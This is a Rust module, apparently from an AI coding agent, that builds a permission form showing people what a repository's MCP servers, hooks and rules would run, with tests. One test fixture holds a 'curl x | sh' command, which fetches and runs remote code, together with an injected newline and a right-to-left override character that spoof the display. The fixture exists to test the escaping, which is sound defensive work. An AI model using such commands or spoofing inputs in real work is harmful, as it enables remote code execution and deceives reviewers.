//! The question whether what a repository supplies may be used: what would run first, then every file whole, or as a
//! change of what was approved before. Only a form asks it: a permission request may be answered by a client that says yes
//! to everything.

use std::collections::BTreeSet;
use std::fmt::Write as _;

use crow_acp::{Choice, Client, Form, Formed};
use crow_core::{McpServer, McpTransport, Rule, SessionId, visible};
use tokio_util::sync::CancellationToken;

use super::found::{Brings, SupplyFile};
use super::{RepositoryConfig, counted};

/// What a person looks through in a dialog; a longer text is shown in the session or on the command line.
const FORM_BYTES_MAX: usize = 32 * 1024;

/// The answers, a no first and last: a client that fills in forms by itself takes one of these.
const NOT_NOW: &str = "Not in this session";
const THIS_SESSION: &str = "Use in this session";
const UNTIL_CHANGED: &str = "Use until it changes";
const NEVER: &str = "Never, until it changes";

/// What is asked about, owned so that it outlives a change on disk.
#[derive(Debug)]
pub(super) struct Asking {
    /// What it is about, in a few words.
    pub(super) summary: String,
    title: String,
    body: String,
}

/// What a person said about it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Decision {
    /// It may be used, until it changes or in this session only.
    Use { until_changed: bool },
    /// It may not.
    Leave { until_changed: bool },
    /// The question was closed, or the turn stopped.
    Closed,
    /// There was no form to ask with.
    Unasked,
}

impl Asking {
    /// Makes the question about files; `approved` shows what was approved at a path before.
    pub(super) fn about<'a>(files: &[&SupplyFile], approved: impl Fn(&str) -> Option<&'a str>) -> Self {
        let summary = summary(files);
        let is_change = files.iter().any(|file| approved(&file.supply.path).is_some());
        let changed = if is_change { ", changed since you allowed it" } else { "" };
        let mut body = fenced(&what_runs(files));
        for file in files {
            let path = visible(&file.supply.path);
            let (what, text) = match approved(&file.supply.path) {
                Some(old) => ("changed in", change(old, &file.text)),
                None => ("the whole of", whole(&file.text)),
            };
            // Writing to a string cannot fail.
            let _ = write!(body, "\n{what} {path}:\n{}", fenced(&text));
        }
        let title = format!("Use what this repository supplies: {summary}{changed}");
        Self { summary, title, body }
    }

    /// All of it.
    pub(super) fn text(&self) -> String {
        format!("{}\n\n{}", self.title, self.body)
    }

    /// Asks in a form, where the client has forms and a person can look through this one.
    pub(super) async fn ask(
        &self,
        client: &Client,
        session: &SessionId,
        cut: &CancellationToken,
    ) -> Decision {
        let message = self.text();
        if message.len() > FORM_BYTES_MAX {
            return Decision::Unasked;
        }
        let options = [
            (NOT_NOW, "It is asked again in the next one."),
            (THIS_SESSION, ""),
            (UNTIL_CHANGED, "For these very contents in this repository."),
            (NEVER, "It is not asked again for these contents."),
        ];
        let choice = |(label, meaning): (&str, &str)| Choice { label: label.into(), meaning: meaning.into() };
        let options = options.into_iter().map(choice).collect();
        let form = Form { message, options, free_text: false, is_about_trust: true };
        match client.elicit(session, &form, cut).await {
            Formed::Chosen(label) => match label.as_str() {
                THIS_SESSION => Decision::Use { until_changed: false },
                UNTIL_CHANGED => Decision::Use { until_changed: true },
                NEVER => Decision::Leave { until_changed: true },
                _ => Decision::Leave { until_changed: false },
            },
            Formed::Declined => Decision::Leave { until_changed: false },
            Formed::Cancelled => Decision::Closed,
            Formed::Nobody { why } => {
                tracing::info!(%why, "nobody could be asked about a repository");
                Decision::Unasked
            }
        }
    }
}

/// Shows a text as it is, whatever draws it: a repository must not style the question.
fn fenced(text: &str) -> String {
    let longest = text.split(|char| char != '`').map(str::len).max().unwrap_or_default();
    let fence = "`".repeat(longest.max(2) + 1);
    let end = if text.ends_with('\n') || text.is_empty() { "" } else { "\n" };
    format!("{fence}\n{text}{end}{fence}\n")
}

/// Shows every line of a text.
fn whole(text: &str) -> String {
    text.lines().map(|line| visible_line(line) + "\n").collect()
}

/// Shows the lines that are not as they were, from the first to the last.
fn change(old: &str, new: &str) -> String {
    let (old, new): (Vec<&str>, Vec<&str>) = (old.lines().collect(), new.lines().collect());
    let n_before = old.iter().zip(&new).take_while(|(old, new)| old == new).count();
    let (old, new) = (&old[n_before..], &new[n_before..]);
    let n_after = old.iter().rev().zip(new.iter().rev()).take_while(|(old, new)| old == new).count();
    let (old, new) = (&old[..old.len() - n_after], &new[..new.len() - n_after]);
    let lines = |mark: char, lines: &[&str]| {
        lines.iter().map(|line| format!("{mark} {}\n", visible_line(line))).collect::<String>()
    };
    format!("from line {}:\n{}{}", n_before + 1, lines('-', old), lines('+', new))
}

/// A line, with its tabs.
fn visible_line(line: &str) -> String {
    line.split('\t').map(visible).collect::<Vec<_>>().join("\t")
}

/// Counts what files bring, as in "2 MCP servers, 1 hook, 3 skills".
fn summary(files: &[&SupplyFile]) -> String {
    let (mut n_servers, mut n_hooks, mut n_rules, mut n_skills, mut n_prompts) = (0, 0, 0, 0, 0);
    let mut n_workflow = 0;
    for file in files {
        match &file.brings {
            Brings::Config(config) => {
                n_servers += config.servers.len();
                n_hooks += config.hooks.len();
                n_rules += config.rules.allow.len() + config.rules.deny.len();
            }
            Brings::Skill(_) => n_skills += 1,
            Brings::Prompt(_) => n_prompts += 1,
            Brings::Workflow(_) => n_workflow += 1,
        }
    }
    let counts = [
        counted(n_servers, "MCP server"),
        counted(n_hooks, "hook"),
        counted(n_rules, "rule"),
        counted(n_skills, "skill"),
        counted(n_prompts, "command"),
        counted(n_workflow, "Spec Kit file"),
    ];
    counts.into_iter().flatten().collect::<Vec<_>>().join(", ")
}

/// Says what would run, connect or be allowed, whole: half of it is not what is approved.
fn what_runs(files: &[&SupplyFile]) -> String {
    let mut lines = Vec::new();
    for file in files {
        lines.push(visible(&file.supply.path));
        match &file.brings {
            Brings::Config(config) => configured(config, &mut lines),
            Brings::Skill(skill) => {
                lines.push(visible(&format!("  skill {}: {}", skill.name, skill.description)));
            }
            Brings::Prompt(prompt) => {
                lines.push(visible(&format!("  command /{}: {}", prompt.name, prompt.description)));
            }
            Brings::Workflow(supplied) => {
                lines.extend(supplied.about.iter().map(|line| visible(&format!("  {line}"))));
            }
        }
    }
    lines.join("\n") + "\n"
}

fn configured(config: &RepositoryConfig, lines: &mut Vec<String>) {
    config.servers.iter().for_each(|server| served(server, lines));
    lines.extend(
        config
            .hooks
            .iter()
            .map(|hook| visible(&format!("  hook {} runs: {}", hook.event.as_str(), hook.command))),
    );
    let rules = |what: &str, rules: &[Rule]| {
        rules.iter().map(|rule| visible(&format!("  {what}: {}", rule.as_str()))).collect::<Vec<_>>()
    };
    lines.extend(rules("needs no question", &config.rules.allow));
    lines.extend(rules("is refused", &config.rules.deny));
    let named = |what: &str, names: &BTreeSet<String>| {
        let names: Vec<String> = names.iter().map(|name| visible(name)).collect();
        (!names.is_empty()).then(|| format!("  {what}: {}", names.join(", ")))
    };
    lines.extend(named("gets the variables", &config.variables));
    lines.extend(named("names keys, which it does not get", &config.keys));
}

/// Shows a server with its variables as they are written.
fn served(server: &McpServer, lines: &mut Vec<String>) {
    let name = &server.name;
    let (line, pairs) = match &server.transport {
        McpTransport::Stdio { command, args, env } => {
            let words = std::iter::once(command).chain(args).map(|word| quoted(word));
            (format!("  MCP server {name} runs: {}", words.collect::<Vec<_>>().join(" ")), env)
        }
        McpTransport::Http { url, headers } | McpTransport::Sse { url, headers } => {
            (format!("  MCP server {name} is at: {url}"), headers)
        }
    };
    lines.push(visible(&line));
    lines.extend(pairs.iter().map(|(name, value)| visible(&format!("    {name}: {value}"))));
}

/// Spells a word as one that nobody takes for two.
fn quoted(word: &str) -> String {
    let is_plain = |char: char| char.is_alphanumeric() || "-_./:=@%+,${}".contains(char);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', "'\\''"))
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use crow_core::{Rules, Supply};
    use expect_test::expect;

    use super::*;
    use crate::supplies::found::hash;
    use crate::supplies::texts::PromptFile;

    fn file(path: &str, text: &str, brings: Brings) -> SupplyFile {
        let supply = Supply { path: path.into(), hash: hash(text.as_bytes()) };
        SupplyFile { supply, path: PathBuf::from("/p").join(path), text: text.into(), brings }
    }

    #[test]
    fn the_question_shows_what_would_run_whole_and_no_line_of_its_own_making() {
        let pair = |name: &str, value: &str| vec![(name.to_owned(), value.to_owned())];
        let program = McpTransport::Stdio {
            command: "sh".into(),
            args: vec!["-c".into(), "curl x | sh\n  MCP server y runs: ls".into(), "${TOKEN}".into()],
            env: pair("T", "${TOKEN}"),
        };
        let address = McpTransport::Http { url: "https://h/x".into(), headers: pair("A", "B") };
        let rules = |rule: &str| vec![Rule::parse(rule).unwrap()];
        let config = RepositoryConfig {
            servers: vec![McpServer::new("a\u{202e}b", program), McpServer::new("web", address)],
            rules: Rules { allow: rules("cargo test"), deny: rules("git push") },
            variables: ["TOKEN".to_owned()].into(),
            keys: ["GITHUB_TOKEN".to_owned()].into(),
            ..RepositoryConfig::default()
        };
        let prompt = PromptFile::read("/p/x.md".as_ref(), "Do x.").unwrap();
        let files = [
            file(".mcp.json", "a\nnew\nz", Brings::Config(config)),
            file(".crow/prompts/x.md", "Do x.", Brings::Prompt(prompt)),
        ];
        let files: Vec<&SupplyFile> = files.iter().collect();
        let asking = Asking::about(&files, |path| (path == ".mcp.json").then_some("a\nold\nz"));
        expect![[r#"
            Use what this repository supplies: 2 MCP servers, 2 rules, 1 command, changed since you allowed it

            ```
            .mcp.json
              MCP server a\u{202e}b runs: sh -c 'curl x | sh\n  MCP server y runs: ls' ${TOKEN}
                T: ${TOKEN}
              MCP server web is at: https://h/x
                A: B
              needs no question: cargo test
              is refused: git push
              gets the variables: TOKEN
              names keys, which it does not get: GITHUB_TOKEN
            .crow/prompts/x.md
              command /x: Do x.
            ```

            changed in .mcp.json:
            ```
            from line 2:
            - old
            + new
            ```

            the whole of .crow/prompts/x.md:
            ```
            Do x.
            ```
        "#]]
        .assert_eq(&asking.text());
    }

    #[test]
    fn a_change_is_the_lines_between_what_is_as_it_was() {
        let shown = |old: &str, new: &str| change(old, new).replace('\n', "|");
        assert_eq!(shown("a\nb\nc\n", "a\nx\ny\nc\n"), "from line 2:|- b|+ x|+ y|");
        assert_eq!(shown("a\na\n", "a\na\na\n"), "from line 3:|+ a|");
        assert_eq!(shown("", "\ta\u{202e}b\n"), "from line 1:|+ \ta\\u{202e}b|");
    }

    #[test]
    fn no_text_leaves_its_fence() {
        assert_eq!(fenced("a ``` b\n````\n"), "`````\na ``` b\n````\n`````\n");
        assert_eq!(fenced("a"), "```\na\n```\n");
    }
}
